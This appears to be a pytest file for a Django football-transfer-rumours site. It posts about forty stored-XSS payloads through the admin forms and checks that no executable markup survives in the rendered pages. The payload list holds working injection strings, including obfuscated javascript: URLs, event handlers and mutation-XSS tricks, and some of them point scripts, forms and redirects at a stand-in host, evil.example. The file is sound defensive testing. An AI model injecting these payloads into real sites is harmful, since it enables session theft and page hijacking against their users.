"""R12 stored XSS (docs/reliability.md).

Each payload goes through the real admin change form into every text field
that is rendered; every output in ``RENDERERS`` is then parsed and compared
with the same output before any payload, so the admin's own scripts and forms
do not count and anything new that could run does. Public outputs (story page,
feed, API) join ``RENDERERS`` when they exist.
"""

import re
from collections import Counter
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from rumours.models import Article, TransferClaim

from .factories import ClubFactory, PlayerFactory, SourceFactory
from .support.admin_forms import admin_url, assert_saved, form_data, png_upload

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<img src=x onerror\n=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    '<a href="javascript:alert(1)">plain</a>',
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
    '<a href="jav\tascript:alert(1)">literal tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">',
    '<a href="&#x6A;avascript&#x3A;alert(1)">hex entities</a>',
    '<a href="&#0000106avascript:alert(1)">padded entity</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    "[markdown link](javascript:alert(1))",
    "[entity link](&#106;avascript:alert(1))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=q><button>Go</button>',
    '<button formaction="javascript:alert(1)">Go</button>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<details open ontoggle=alert(1)>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
]
ARTICLE_FIELDS = [
    "headline",
    "standfirst",
    "body",
    "hero_credit",
    "hero_caption",
    "hero_alt",
]
CLAIM_FIELDS = ["quote"]

SAFE_SCHEMES = {"http", "https", "mailto"}
# Elements that run code, load code or send readers elsewhere.
EXECUTABLE_TAGS = {
    "applet",
    "base",
    "embed",
    "form",
    "frame",
    "frameset",
    "iframe",
    "link",
    "math",
    "meta",
    "object",
    "script",
    "style",
    "svg",
    "template",
}
URL_ATTRIBUTES = {
    "action",
    "background",
    "codebase",
    "data",
    "dynsrc",
    "formaction",
    "href",
    "lowsrc",
    "ping",
    "poster",
    "src",
    "xlink:href",
}
# Browsers drop tabs and newlines anywhere in a URL, and leading controls.
URL_IGNORED = re.compile(r"[\t\n\r]")
URL_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):", re.IGNORECASE)


def url_scheme(value):
    cleaned = URL_IGNORED.sub("", value).lstrip("".join(map(chr, range(0x21))))
    match = URL_SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


class ExecutableParts(HTMLParser):
    """Collect what in a page could run: tags, handlers, URLs, script text."""

    def __init__(self):
        super().__init__()
        self.found = Counter()
        self.raw_text = None

    def handle_starttag(self, tag, attrs):
        if tag in EXECUTABLE_TAGS:
            self.found["tag", tag, tuple(sorted(attrs, key=str))] += 1
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found["handler", tag, name, value] += 1
            elif name in URL_ATTRIBUTES and url_scheme(value) not in {
                None,
                *SAFE_SCHEMES,
            }:
                self.found["url", tag, name, value] += 1
            elif name == "style" and re.search(r"javascript:|expression\(", value):
                self.found["style", tag, value] += 1
        if tag in {"script", "style"}:
            self.raw_text = [tag]

    def handle_data(self, data):
        if self.raw_text is not None:
            self.raw_text.append(data)

    def handle_endtag(self, tag):
        if self.raw_text is not None and tag == self.raw_text[0]:
            self.found["text", *self.raw_text] += 1
            self.raw_text = None


def executable_parts(html):
    parser = ExecutableParts()
    parser.feed(html)
    parser.close()
    return parser.found


def get_page(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return response.content.decode()


# Each renderer returns, as a reader or editor receives it, HTML that shows the
# article's text fields. Public pages, feeds and the API go here when they exist.
RENDERERS = {
    "article.body_html": lambda client, article: (
        Article.objects.get(pk=article.pk).body_html
    ),
    "admin article change page": lambda client, article: get_page(
        client, admin_url(Article, "change", article.pk)
    ),
    "admin article changelist": lambda client, article: get_page(
        client, admin_url(Article, "changelist")
    ),
    "admin article history": lambda client, article: get_page(
        client, admin_url(Article, "history", article.pk)
    ),
    "admin claim change page": lambda client, article: get_page(
        client, admin_url(TransferClaim, "change", article.claims.get().pk)
    ),
    "admin claim changelist": lambda client, article: get_page(
        client, admin_url(TransferClaim, "changelist")
    ),
    "admin index (recent actions)": lambda client, article: get_page(
        client, reverse("admin:index")
    ),
}


def add_article_through_admin(client):
    """Add a published article with a hero image and one claim via the admin."""
    data = form_data(client.get(admin_url(Article, "add")), "article_form")
    data.update(
        {
            "headline": "Milan enquire about Dragusin",
            "slug": "milan-enquire-about-dragusin",
            "standfirst": "The Rossoneri want a centre-back.",
            "body": "Milan have **enquired** about [Dragusin](https://example.com/).",
            "hero_image": png_upload(),
            "hero_credit": "Photo agency",
            "hero_caption": "Dragusin in training",
            "hero_alt": "A defender heads the ball",
            "status": Article.Status.PUBLISHED,
            "published_at_0": "01/07/2025",
            "published_at_1": "09:30:00",
            "claims-0-player": str(PlayerFactory().pk),
            "claims-0-from_club": str(ClubFactory().pk),
            "claims-0-to_club": str(ClubFactory().pk),
            "claims-0-source": str(SourceFactory().pk),
            "claims-0-claim_type": TransferClaim.Type.ENQUIRY,
            "claims-0-quote": "Milan have asked about the defender.",
        }
    )
    assert_saved(client.post(admin_url(Article, "add"), data))
    return Article.objects.get(slug="milan-enquire-about-dragusin")


def post_payload(client, article, payload):
    """Put ``payload`` into every rendered text field through the change form."""
    url = admin_url(Article, "change", article.pk)
    data = form_data(client.get(url), "article_form")
    data.update(dict.fromkeys(ARTICLE_FIELDS, payload))
    data.update({f"claims-0-{name}": payload for name in CLAIM_FIELDS})
    assert_saved(client.post(url, data))


@pytest.mark.slow
def test_stored_xss_payloads_leave_no_executable_survivor(
    admin_client, reliability_report
):
    article = add_article_through_admin(admin_client)
    baseline = {
        name: executable_parts(render(admin_client, article))
        for name, render in RENDERERS.items()
    }
    survivors = []

    for payload in PAYLOADS:
        post_payload(admin_client, article, payload)
        article.refresh_from_db()
        claim = article.claims.get()
        stored = [getattr(article, name) for name in ARTICLE_FIELDS]
        stored += [getattr(claim, name) for name in CLAIM_FIELDS]
        assert stored == [payload] * len(stored)
        for name, render in RENDERERS.items():
            new = executable_parts(render(admin_client, article)) - baseline[name]
            survivors += [(payload, name, part) for part in new]

    fields = len(ARTICLE_FIELDS) + len(CLAIM_FIELDS)
    reliability_report(
        f"R12 stored-xss: {len(PAYLOADS)} payloads × {fields} fields × "
        f"{len(RENDERERS)} outputs, {len(survivors)} executable survivors"
    )
    assert survivors == []


def test_survivor_check_catches_an_unescaped_payload():
    baseline = executable_parts('<p>safe</p><script src="/static/admin.js"></script>')

    unescaped = executable_parts(
        '<p>safe</p><script src="/static/admin.js"></script>'
        '<a href=" jav&#x09;ascript:alert(1)">x</a><img src=x onerror=alert(1)>'
        "<script>alert(1)</script>"
    )

    assert sorted(unescaped - baseline) == [
        ("handler", "img", "onerror", "alert(1)"),
        ("tag", "script", ()),
        ("text", "script", "alert(1)"),
        ("url", "a", "href", " jav\tascript:alert(1)"),
    ]
